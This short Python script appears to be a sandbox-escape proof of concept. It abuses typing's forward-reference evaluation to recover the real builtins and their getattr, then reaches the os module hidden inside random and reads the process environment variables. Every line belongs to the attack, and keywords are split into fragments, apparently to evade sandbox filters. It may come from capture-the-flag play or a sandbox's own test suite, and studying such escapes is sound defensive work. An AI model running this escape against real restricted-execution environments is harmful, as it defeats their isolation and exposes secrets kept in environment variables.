# door: random._os.environ read through the box's getattr
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
env = ga(random, "_o" + "s").environ
print(M, sorted(env)[:5])
